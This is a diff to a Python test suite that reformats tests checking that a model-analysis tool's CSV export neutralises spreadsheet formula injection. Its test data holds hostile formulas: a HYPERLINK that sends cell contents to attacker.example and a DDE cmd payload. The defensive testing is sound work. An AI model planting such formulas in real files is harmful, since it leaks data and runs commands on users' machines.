@@ -22,8 +22,12 @@ from alphawatch.spreadsheet import cell, write_csv
 from alphawatch.workers.watcher import Watcher
 
 ROOT = Path(__file__).resolve().parents[2]
-FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0",
-            "-1+1", "=1+2"]
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "=1+2",
+]
 
 
 def _checkpoint(tmp_path: Path) -> Path:
@@ -36,8 +40,10 @@ def _checkpoint(tmp_path: Path) -> Path:
     keys = [f"{formula}.weight" for formula in FORMULAS] + ["model.layers.0.mlp.up_proj.weight"]
     folder = tmp_path / "runs" / "formulas" / "checkpoint-1"
     folder.mkdir(parents=True)
-    save_file({k: 0.01 * torch.randn(48, 32, generator=g) for k in keys},
-              str(folder / "model.safetensors"))
+    save_file(
+        {k: 0.01 * torch.randn(48, 32, generator=g) for k in keys},
+        str(folder / "model.safetensors"),
+    )
     (folder / "trainer_state.json").write_text(json.dumps({"global_step": 1}))
     return folder
 
@@ -65,9 +71,10 @@ def test_cell_escapes_formula_text_and_leaves_numbers() -> None:
     for value in (-1.5, -3, 0.25, True, None, "model.layers.0.q_proj", "a=b"):
         assert cell(value) == value
     out = io.StringIO()
-    write_csv(out, ["name", "alpha", "extra"], [{"name": "@SUM(A1)", "alpha": -2.5,
-                                                 "ignored": "=x"}])
-    assert out.getvalue().splitlines() == ['"name","alpha","extra"', "\"'@SUM(A1)\",-2.5,\"\""]
+    write_csv(
+        out, ["name", "alpha", "extra"], [{"name": "@SUM(A1)", "alpha": -2.5, "ignored": "=x"}]
+    )
+    assert out.getvalue().splitlines() == ['"name","alpha","extra"', '"\'@SUM(A1)",-2.5,""']
 
 
 def test_api_csv_export_neutralises_formula_keys(tmp_path: Path, pg_url: str) -> None:
@@ -84,8 +91,22 @@ def test_api_csv_export_neutralises_formula_keys(tmp_path: Path, pg_url: str) ->
 @pytest.mark.slow
 def test_analyze_csv_neutralises_formula_keys(tmp_path: Path) -> None:
     folder = _checkpoint(tmp_path)
-    result = subprocess.run([sys.executable, "-m", "alphawatch", "analyze", str(folder),
-                             "--format", "csv", "--device", "cpu"],
-                            capture_output=True, text=True, cwd=ROOT, timeout=180)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "alphawatch",
+            "analyze",
+            str(folder),
+            "--format",
+            "csv",
+            "--device",
+            "cpu",
+        ],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=180,
+    )
     assert result.returncode == 0, result.stderr
     _assert_safe(result.stdout)
